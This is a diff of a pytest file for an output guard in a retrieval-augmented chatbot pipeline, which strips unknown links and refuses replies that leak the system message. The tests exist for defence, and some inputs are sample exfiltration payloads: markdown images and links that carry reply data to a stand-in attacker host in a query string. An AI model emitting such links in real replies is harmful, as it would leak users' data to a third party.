@@ -1,13 +1,11 @@
-"""What is cut out of replies, what is refused, and what is left alone."""
+"""The output guard: removed parts, refused replies, and replies without findings."""
 
 from pathlib import Path
-from typing import Any
 
 import pytest
 import yaml
 
 from rag.components.guards.output import OutputGuard
-from rag.core.errors import ConfigError
 from rag.core.records import Chunk, Finding, Message, Query, Reply, Request, Span
 from rag.pipeline.postprocess import check
 
@@ -101,13 +99,13 @@ def test_what_the_contexts_hold_is_left_alone(text: str) -> None:
         ("[a](//e.example) ![b](c) https://e.example/1 [9] <<00112233aabbccdd>>", "a    "),
     ],
 )
-def test_what_nobody_gave_is_cut_out_at_its_place(text: str, left: str) -> None:
+def test_unknown_addresses_are_removed_at_their_place(text: str, left: str) -> None:
     for one in looked(text):
         text = text[: one.start] + "\0" * (one.end - one.start) + text[one.end :] if one.action == "remove" else text
     assert text.replace("\0", "") == left
 
 
-def test_a_person_reads_what_is_left() -> None:
+def test_the_rest_of_a_reply_is_shown() -> None:
     assert read("25 days [1]. ![x](https://evil.example/?d=25)").rstrip() == "25 days [1]."
     assert read("Ask [here](https://evil.example/?25) or at https://evil.example/b.") == "Ask here or at ."
 
@@ -135,7 +133,7 @@ def test_a_reply_of_which_nothing_is_left_is_the_refusal() -> None:
     assert read("") == ""
 
 
-def test_what_a_model_was_told_in_confidence_is_refused() -> None:
+def test_a_leak_of_the_system_message_is_refused() -> None:
     (found,) = looked(f"Of course! {RULES} Anything else?")
     assert (found.action, found.start, found.end) == ("refuse", len("Of course! "), len("Of course! ") + len(RULES) - 1)
     assert read(f"Of course! {RULES}") == "No answer."
@@ -151,19 +149,3 @@ def test_what_contexts_say_too_is_no_secret() -> None:
 def test_actions_are_chosen_by_kind() -> None:
     guard = OutputGuard(**{**WORDS, "actions": {**WORDS["actions"], "url": "refuse", "citation": "flag"}})
     assert [one.action for one in looked("[7] https://evil.example/a", guard)] == ["flag", "refuse"]
-
-
-@pytest.mark.parametrize(
-    ("change", "where"),
-    [
-        ({"patterns": {"url": "("}}, "guard.output.patterns.url"),
-        ({"patterns": {"urls": "a"}}, "guard.output.patterns.urls"),
-        ({"actions": {"url": "cut"}}, "guard.output.actions.url"),
-        ({"actions": {"urls": "flag"}}, "guard.output.actions.urls"),
-        ({"leak_words": 1}, "guard.output.leak_words"),
-    ],
-)
-def test_mistakes_are_told_with_their_place(change: dict[str, Any], where: str) -> None:
-    with pytest.raises(ConfigError) as told:
-        OutputGuard(**{**WORDS, **change})
-    assert told.value.where == where
